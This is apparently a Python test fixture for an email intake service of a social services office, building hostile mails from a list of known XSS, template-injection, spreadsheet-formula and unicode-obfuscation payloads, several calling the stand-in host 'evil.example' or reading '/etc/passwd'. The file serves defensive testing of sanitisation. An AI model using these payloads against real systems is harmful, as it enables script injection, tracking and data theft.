"""Mails that want to do harm, and an office that takes in mail and writes its own into a folder.

The vectors are known ways in which markup runs or calls out; none of them is ours.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP, default
from html import escape
from pathlib import Path

from adapters.email.channel import make, raw_of
from adapters.settings import Account, ChannelSettings
from config.wiring import open_office
from tests.story import HandClock, Story, fakes, settings_for
from workflow.intake import Outcome

OFFICE = "pengaduan@dinsos.example"
PROOF = "mx.dinsos.example; dmarc=pass header.from=warga.example"
"""What the office's own server writes above a mail whose sender it has checked."""

FOREIGN = "evil.example"
"""Where a vector would call, if it ran."""

VECTORS = (
    "<script>alert(1)</script>",
    f"<script src=//{FOREIGN}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{FOREIGN}/pixel.gif>",
    f"<img srcset='//{FOREIGN}/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>klik</text></a></svg>",
    f"<svg><use href='//{FOREIGN}/x.svg#a'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>klik</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<a href='java\tscript:alert(1)'>klik</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "<a href='vbscript:msgbox(1)'>klik</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='file:///etc/passwd'></iframe>",
    f"<object data='//{FOREIGN}/x.swf'></object>",
    f"<embed src='//{FOREIGN}/x'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<video poster='//{FOREIGN}/p.png'></video>",
    f"<audio src='//{FOREIGN}/a.mp3' autoplay></audio>",
    f"<link rel=stylesheet href='//{FOREIGN}/a.css'>",
    f"<style>@import '//{FOREIGN}/a.css';*{{background:url(//{FOREIGN}/b)}}</style>",
    f"<p style='background:url(//{FOREIGN}/c)'>p</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>menutup semuanya</p>",
    "<div style='width:expression(alert(1))'>",
    f"<base href='//{FOREIGN}/'>",
    f"<meta http-equiv=refresh content='0;url=//{FOREIGN}/'>",
    f"<form action='//{FOREIGN}/'><button>Masuk lagi</button></form>",
    f"<table background='//{FOREIGN}/t.png'><td>x",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>x",
    "<marquee onstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}", "#{7*7}",
    "{{ config.items() }}", "%s%s%n",
    '=HYPERLINK("http://evil.example")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "javascript:alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<",
)  # fmt: skip


def letter(words: str, **fields: str) -> EmailMessage:
    """A plain letter; `From`, `Subject` and whatever else may be given with `_` for `-`."""
    mail = EmailMessage(policy=default)
    known = {
        "Authentication-Results": PROOF,
        "From": "Ratna <ratna@warga.example>",
        "To": OFFICE,
        "Subject": "Bantuan",
    }
    fields = {name.replace("_", "-"): value for name, value in fields.items()}
    for name, value in {**known, **fields}.items():
        if value:
            mail[name] = value
    mail.set_content(words)
    return mail


def hostile(vector: str, number: int, author: int = -1, about: str = "") -> bytes:
    """One vector in each place that a page might show: subject, name, file name, text, markup.

    With `author`, another mail of whoever wrote that one, who names a complaint.
    """
    flat = " ".join(vector.replace("\x00", "").split())
    subject = " ".join(filter(None, ("Air mati", about, flat)))
    mail = letter(f"Air mati sejak Senin.\n{vector}\n", Subject=subject)
    writer = number if author < 0 else author
    mail.replace_header("From", _named(flat, f"penulis{writer}@warga.example"))
    mail["Message-ID"] = f"<hostile-{number}@warga.example>"
    mail.add_alternative(f"<p>Air mati sejak Senin.</p>{vector}<p>{escape(vector)}</p>", "html")
    picture = f"<svg xmlns='http://www.w3.org/2000/svg'>{vector}</svg>".encode()
    mail.add_attachment(picture, "image", "svg+xml", filename=f"{flat}.svg")
    mail.add_attachment(f"<p>{vector}".encode(), "text", "html", filename=f"{flat}.html")
    return mail.as_bytes(policy=SMTP)


def _named(name: str, address: str) -> str:
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{quoted}" <{address}>'


@dataclass
class MailOffice:
    """A story whose people write mail, and the folder with what the office sends."""

    story: Story
    outgoing: Path

    def gets(self, mail: EmailMessage | bytes) -> Outcome:
        """A mail arrives now."""
        body = mail if isinstance(mail, bytes) else mail.as_bytes(policy=SMTP)
        story = self.story
        outcome = story.office.intake.take(raw_of("office", body), story.clock.at)
        story.complaint = outcome.complaint or story.complaint
        return outcome

    def sent(self) -> list[EmailMessage]:
        """What the office has written so far, once the machine has had its turns."""
        self.story.tick()
        return list(self._written())

    def _written(self) -> Iterator[EmailMessage]:
        for file in sorted(self.outgoing.glob("*.eml")):
            mail = message_from_bytes(file.read_bytes(), policy=default)
            assert isinstance(mail, EmailMessage)
            yield mail


def open_mail_office(home: Path, url: str = "") -> MailOffice:
    """A new office with a form, a chat platform and a mailbox."""
    clock = HandClock()
    outgoing = home / "outgoing"
    account = Account(
        id="office",
        unit="sekretariat",
        address=OFFICE,
        name="Dinas Sosial",
        options={"folder": str(outgoing), "trusted_server": "mx.dinsos.example"},
    )
    email = make(ChannelSettings(accounts=(account,), now=clock))
    channels = {**fakes(clock), "email": email}
    office = open_office(settings_for(home, url), now=clock, channels=channels)
    return MailOffice(Story(office, clock), outgoing)


def words_of(mail: EmailMessage) -> str:
    """All that somebody can read of a mail: its header and each text in it."""
    parts = [
        str(part.get_content()) for part in mail.walk() if part.get_content_maintype() == "text"
    ]
    return "\n".join([*(f"{name}: {value}" for name, value in mail.items()), *parts])
